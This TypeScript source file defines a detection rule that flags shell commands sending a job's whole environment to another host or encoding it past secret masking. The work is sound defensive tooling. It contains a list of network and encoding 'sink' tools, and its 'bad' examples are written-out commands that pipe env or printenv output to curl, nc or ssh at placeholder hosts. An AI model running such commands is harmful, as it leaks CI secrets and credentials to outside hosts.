import type { Rule } from '../../rule.ts';
import type { Command } from '../../shell/command.ts';
import type { Word } from '../../shell/word.ts';
import { inputOf, pipelineStart } from '../reading/input.ts';
import { argumentsOf, runs, runsOneOf, sketchOf } from '../reading/words.ts';

/** What sends its input to somebody else, or into a form that masking does not know. */
const SINKS = new Set(
  'curl wget nc ncat netcat socat telnet ssh mail mailx mutt sendmail msmtp http https xh aws gsutil rclone gh base64 base32 basenc openssl xxd od hexdump uuencode rev'.split(
    ' ',
  ),
);

export const sendEnvironment: Rule = {
  id: 'secrets-read/send-environment',
  severity: 'error',
  title: 'The whole environment is sent away, or encoded past the masking',
  why: 'The environment of a job holds its secrets. Encoded or on another host nothing masks them.',
  instead: 'Name the one variable that is needed, and no secret: `printenv NODE_ENV`',
  bad: [
    { text: 'env | curl -d @- https://example.org' },
    { text: 'printenv | base64' },
    { text: 'curl -d "$(env)" https://example.org' },
    { text: 'printenv | sort | nc example.org 99' },
    { text: 'export -p | ssh host "cat > env.txt"' },
    { text: 'curl https://example.org --data "$(printenv | base64)"' },
    { text: 'curl --data-binary @<(env) https://example.org' },
  ],
  good: [
    { text: 'env | sort' },
    { text: 'printenv PATH' },
    { text: 'env NODE_ENV=production node app.js' },
    { text: 'printenv NODE_ENV | base64' },
    { text: 'env | grep -c ^CI' },
    { text: 'echo env | base64' },
    { text: 'curl https://example.org/env' },
  ],
  command(command) {
    if (!runsOneOf(command, SINKS)) return undefined;
    const input = inputOf(command);
    const piped = input?.kind === 'pipe' && input.from.some(tellsAll);
    return piped ? pipelineStart(command) : argumentsOf(command).some(carriesAll) ? {} : undefined;
  },
};

/** `env`, `printenv`, `export -p` and the like, without a name of what is wanted. */
function tellsAll(command: Command): boolean {
  const texts = argumentsOf(command).map(sketchOf);
  if (runs(command, 'env', 'printenv')) return texts.every((text) => /^(?:-0|--null)$/.test(text));
  if (runs(command, 'set')) return texts.length === 0;
  if (runs(command, 'export', 'declare', 'typeset')) return texts.every((text) => /^-[px]+$/.test(text));
  return false;
}

const carriesAll = ({ segments }: Word): boolean =>
  segments.some(
    (segment) =>
      segment.kind === 'unknown' &&
      [...(segment.output ?? []), ...(segment.process ?? [])].some(
        (command) => tellsAll(command) || (command.input?.kind === 'pipe' && command.input.from.some(tellsAll)),
      ),
  );
